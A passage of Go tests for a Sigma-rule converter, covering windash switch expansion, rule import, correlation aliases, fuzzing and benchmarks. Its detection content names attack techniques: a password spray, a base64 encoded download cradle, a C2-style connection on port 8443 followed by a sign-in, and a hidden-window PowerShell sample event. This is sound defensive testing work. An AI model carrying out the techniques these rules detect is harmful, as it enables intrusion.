		}
	}
}

func TestWindash(t *testing.T) {
	out, err := windash(sstr{{lit: " -a x-y /b"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 25 { // two switches (-a, /b); the dash inside x-y is kept
		t.Fatalf("%d variants", len(out))
	}
	seen := map[string]bool{}
	for _, v := range out {
		seen[v.plain()] = true
	}
	for _, want := range []string{" -a x-y /b", " /a x-y -b", " \u2013a x-y \u2015b"} {
		if !seen[want] {
			t.Errorf("missing %q", want)
		}
	}
	if _, err := windash(sstr{{lit: strings.Repeat(" -a", 5)}}); !errors.Is(err, ErrUnsupported) {
		t.Errorf("5 switches: err = %v, want the expansion limit", err)
	}
}

func TestMain_ImportSigma(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "in")
	if err := os.MkdirAll(in, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"corr_spray.yml", "proc_base64.yml"} {
		if err := os.WriteFile(filepath.Join(in, f), readTestdata(t, f), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	bad := hdrRule + "logsource: {product: linux, category: process_creation}\ndetection:\n  sel: {Image: x}\n  condition: sel\n"
	if err := os.WriteFile(filepath.Join(in, "linux.yml"), []byte(bad), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out")
	var stdout, stderr strings.Builder
	if code := Main([]string{"-o", out, in}, &stdout, &stderr); code != 1 {
		t.Fatalf("exit %d, want 1 (one unsupported rule); stderr:\n%s", code, stderr.String())
	}
	if code := Main([]string{in, "--skip-unsupported", "-o", out}, &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d with --skip-unsupported; stderr:\n%s", code, stderr.String())
	}
	if !strings.Contains(stderr.String(), "product=linux") {
		t.Errorf("stderr does not report the unsupported rule:\n%s", stderr.String())
	}
	set, err := rules.LoadDir(out, rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(set.Rules) != 2 || set.Rule("sigma.password_spray_from_one_address") == nil || set.Rule("sigma.base64_encoded_download_cradle") == nil {
		t.Errorf("written rules: %d", len(set.Rules))
	}
	stdout.Reset()
	if code := Main([]string{filepath.Join(in, "proc_base64.yml")}, &stdout, &stderr); code != 0 || !strings.Contains(stdout.String(), "id: sigma.base64_encoded_download_cradle") {
		t.Errorf("stdout mode: exit %d:\n%s", code, stdout.String())
	}
	if code := Main(nil, &stdout, &stderr); code != 2 {
		t.Errorf("no args: exit %d, want 2", code)
	}
}

func FuzzConvert(f *testing.F) {
	entries, err := os.ReadDir("testdata")
	if err != nil {
		f.Fatal(err)
	}
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".yml") {
			f.Add(readTestdata(f, e.Name()))
		}
	}
	f.Add([]byte(hdrRule + "logsource: {product: windows, category: process_creation}\ndetection:\n  sel: {CommandLine|windash|contains: ' -x /y'}\n  condition: not sel"))
	f.Fuzz(func(t *testing.T, src []byte) {
		out, _, err := Convert(src, Options{})
		if err == nil && len(out) == 0 {
			t.Fatal("no error and no output")
		}
	})
}

// TestAliases: a temporal_ordered correlation whose group-by alias names a
// different field per rule (the destination of a connection, the source of
// a sign-in) keys both on the same IP.
func TestAliases(t *testing.T) {
	src := `title: Connection To An Address That Then Signs In
correlation:
  type: temporal_ordered
  rules: [c2_conn, signin_from]
  group-by: [addr]
  timespan: 30m
  aliases:
    addr:
      c2_conn: DestinationIp
      signin_from: IPAddress
level: high
---
title: Connection To Port 8443
name: c2_conn
tags: [attack.t1571]
logsource: {product: windows, category: network_connection}
detection:
  sel: {DestinationPort: 8443}
  condition: sel
---
title: Any Sign-In
name: signin_from
tags: [attack.t1078.004]
logsource: {product: azure, service: signinlogs}
detection:
  sel: {ResultType: 0}
  condition: sel
`
	out, _, err := Convert([]byte(src), Options{})
	if err != nil {
		t.Fatal(err)
	}
	set, err := rules.LoadSources([]rules.Source{{Name: "a.yaml", Data: out}}, nil, rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	id := "sigma.connection_to_an_address_that_then_signs_in"
	if r := set.Rule(id); r == nil || r.Keyspace != event.KeyIP {
		t.Fatalf("rule: %+v\n%s", r, out)
	}
	conn := netEv("ConnectionSuccess", "203.0.113.5", 8443)
	later := success("mallory@example.org", "203.0.113.5", t0.Add(10*time.Minute))
	other := success("mallory@example.org", "203.0.113.6", t0.Add(10*time.Minute))
	if n := runEvents(t, set, []event.Event{conn, later})[id]; n != 1 {
		t.Errorf("same address: %d alerts, want 1\n%s", n, out)
	}
	if n := runEvents(t, set, []event.Event{conn, other})[id]; n != 0 {
		t.Errorf("other address: %d alerts, want 0", n)
	}
	// The connection's source address is not the alias: no match on it.
	if n := runEvents(t, set, []event.Event{conn, success("m@example.org", conn.SrcIP, t0.Add(time.Minute))})[id]; n != 0 {
		t.Errorf("source address: %d alerts, want 0", n)
	}
}

func BenchmarkConvert(b *testing.B) {
	src := readTestdata(b, "proc_office_encoded.yml")
	b.ReportAllocs()
	for b.Loop() {
		if _, _, err := Convert(src, Options{}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkConvertedRuleEval measures the engine cost per non-matching
// process event of a converted rule: typed fields only, and a rule that
// also reads a raw column (the engine then decodes Raw into Fields).
func BenchmarkConvertedRuleEval(b *testing.B) {
	ev := proc(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -nop -w hidden -File C:\\scripts\\inventory.ps1",
		`C:\Windows\explorer.exe`, nil)
	for _, f := range []string{"proc_regex_prefix.yml", "proc_office_encoded.yml"} {
		b.Run(strings.TrimSuffix(f, ".yml"), func(b *testing.B) {
			_, _, set := convertFiles(b, f)
			eng, err := operators.NewEngine(set, operators.NewMemStore(), operators.Options{Lateness: time.Hour})
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			for b.Loop() {
				e := ev
				if _, err := eng.Process(event.KeyDevice, "ws-17", &e); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
